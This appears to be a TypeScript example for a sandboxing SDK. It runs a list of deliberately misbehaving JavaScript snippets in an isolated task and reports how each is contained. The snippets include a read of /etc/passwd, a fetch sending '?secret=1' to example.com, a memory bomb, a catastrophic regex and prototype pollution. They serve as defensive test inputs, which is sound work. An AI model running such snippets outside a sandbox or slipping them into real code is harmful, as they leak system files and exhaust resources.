/**
 * Runs code that nobody has read, such as a language model wrote, and survives what it does.
 *
 * `runCode` has no files, no network, little memory, little time and no second attempt. Whatever the code breaks is its own
 * sandbox, which is thrown away afterwards; `main` gets a TaskError and goes on.
 */
import { TaskError, task } from "@capsule-run/sdk";

const OUTPUT_MAX = 64 * 1024;

const SNIPPETS: Record<string, string> = {
  "well behaved": "console.log(Array.from({ length: 1000 }, (_, n) => n * n).reduce((a, b) => a + b))",
  "a mistake": "console.log(nothing.at.all)",
  "throws no Error": "throw 42",
  "endless loop": "while (true);",
  "endless sleep": "await new Promise((resolve) => setTimeout(resolve, 3_600_000))",
  "endless regular expression": "console.log(/^(a+)+$/.test('a'.repeat(40) + '!'))",
  "memory bomb": "const hoard = []; while (true) hoard.push(new Uint8Array(1_000_000).fill(1))",
  "deep recursion": "(function f(n) { return f(n + 1) + 1; })(0)",
  "waits for nothing": "await new Promise(() => {})",
  "reads a file": "const { readFileSync } = require('fs'); console.log(readFileSync('/etc/passwd', 'utf8'))",
  "phones home": "await fetch('https://example.com/?secret=1')",
  "100 MB of output": "for (let i = 0; i < 100; i++) console.log('x'.repeat(1_000_000))",
  "leaves the process": "process.exit(3)",
  "pollutes": "Object.prototype.polluted = Array.prototype.polluted = 'yes'; console.log({}.polluted)",
  "is it still polluted?": "console.log({}.polluted, [].polluted)",
  "tampers with Capsule": "JSON.stringify = JSON.parse = Promise.prototype.then = () => 'gone'; console.log('tampered')",
};

const AsyncFunction = (async () => {}).constructor as new (...source: string[]) => (print: object) => Promise<void>;

/** Runs JavaScript and returns what it prints. */
const runCode = task(
  { name: "run_code", compute: "LOW", ram: "64MB", timeout: "1s", maxRetries: 0, allowedFiles: [], allowedHosts: [], envVariables: [] },
  async (code: string): Promise<string> => {
    let output = "";
    const log = (...values: unknown[]): void => {
      output += `${values.join(" ")}\n`;
      if (output.length > OUTPUT_MAX) throw new RangeError(`printed more than ${OUTPUT_MAX} characters`);
    };
    await new AsyncFunction("console", `"use strict"; ${code}`)({ log });
    return output;
  },
);

export const main = task({ name: "main", compute: "HIGH", ram: "64MB" }, async () => {
  const lines: string[] = [];
  for (const [title, code] of Object.entries(SNIPPETS)) {
    const outcome = await runCode(code).then(
      (printed) => `printed ${printed}`,
      (error: TaskError) => `${error.type}: ${error.className ?? ""} ${error.message}`,
    );
    lines.push(`${title.padEnd(27)} ${outcome.split(/\s+/).join(" ").slice(0, 90)}`);
  }
  return lines.join("\n");
});
